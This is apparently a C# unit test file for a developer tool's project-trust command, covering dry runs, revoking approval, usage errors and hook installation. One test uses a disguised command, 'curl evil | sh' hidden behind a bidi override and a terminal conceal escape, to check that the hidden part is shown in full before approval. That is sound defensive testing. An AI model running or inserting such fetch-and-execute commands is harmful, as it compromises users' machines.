using System.Text.Json;
using NSubstitute;
using PortOrchestrator.Trust;

namespace PortOrchestrator.Host.Tests.Commands;

[CancelAfter(30_000)]
public class TrustCommandTests
{
    private CommandRun _run = null!;

    [SetUp]
    public void SetUp() => _run = new CommandRun();

    [Test]
    public async Task Trust_CommandsThatHideSomething_AreShownInFullBeforeTheApproval()
    {
        var verdict = Verdict(TrustReason.NeverApproved, "npm run dev \u202E# \e[8m; curl evil | sh\nsecond line");
        _run.Session.EvaluateTrustAsync(default).ReturnsForAnyArgs(verdict);
        _run.Session.ApproveAsync(default).ReturnsForAnyArgs(verdict with { Reason = TrustReason.Approved, Explanation = "It is." });

        Assert.That(await _run.RunAsync("trust"), Is.Zero);

        Assert.That(
            _run.Terminal.OutText,
            Is.EqualTo(
                "shop (/srv/shop): .project-services.json\n  web, to start in /srv/shop/web:\n"
                + "    npm run dev \\u202e# \\u001b[8m; curl evil | sh\n    second line\nApproved: It is.\n"));
    }

    [Test]
    public async Task Trust_DryRun_ApprovesNothing()
    {
        _run.Session.EvaluateTrustAsync(default).ReturnsForAnyArgs(Verdict(TrustReason.Changed, "serve"));

        Assert.That(await _run.RunAsync("trust", "--dry-run", "--json"), Is.Zero);

        using var document = JsonDocument.Parse(_run.Terminal.OutText);
        Assert.That(document.RootElement.GetProperty("approved").GetBoolean(), Is.False);
        Assert.That(document.RootElement.GetProperty("reason").GetString(), Is.EqualTo("changed"));
        Assert.That(document.RootElement.GetProperty("commands")[0].GetProperty("text").GetString(), Is.EqualTo("serve"));
        await _run.Session.DidNotReceiveWithAnyArgs().ApproveAsync(default);
    }

    [Test]
    public async Task Untrust_ProjectBelowATrustedFolder_WarnsThatItStaysApproved()
    {
        _run.Session.RevokeApprovalAsync(default).ReturnsForAnyArgs([]);
        _run.Session.EvaluateTrustAsync(default).ReturnsForAnyArgs(Verdict(TrustReason.TrustedFolder, "serve"));

        Assert.That(await _run.RunAsync("untrust"), Is.Zero);

        Assert.That(_run.Terminal.OutText, Does.Contain("had no approval"));
        Assert.That(_run.Terminal.ErrorText, Does.Contain("warning: Why."));
    }

    [Test]
    public async Task Trust_UnderAndProject_IsWrongUsage() => Assert.That(await _run.RunAsync("trust", "--under", "/srv", "--project", "shop"), Is.EqualTo(2));

    [TestCase("pwsh", "Register-ProjectSessionHook")]
    [TestCase("emacs", "claude, codex")]
    public async Task Hook_UnknownHost_IsWrongUsageWithTheWayOut(string host, string way)
    {
        Assert.That(await _run.RunAsync("hook", "install", host), Is.EqualTo(2));
        Assert.That(_run.Terminal.ErrorText, Does.Contain(way));
    }

    private static TrustVerdict Verdict(TrustReason reason, string command) => new()
    {
        Project = Given.Project,
        Reason = reason,
        Explanation = "Why.",
        Files = [new ApprovedFile(".project-services.json", "1234", true)],
        Commands =
        [
            new PlannedCommand
            {
                Name = "web",
                Purpose = CommandPurpose.Start,
                Command = PortOrchestrator.Configuration.CommandLine.Shell(command),
                WorkingDirectory = "/srv/shop/web",
            },
        ],
    };
}
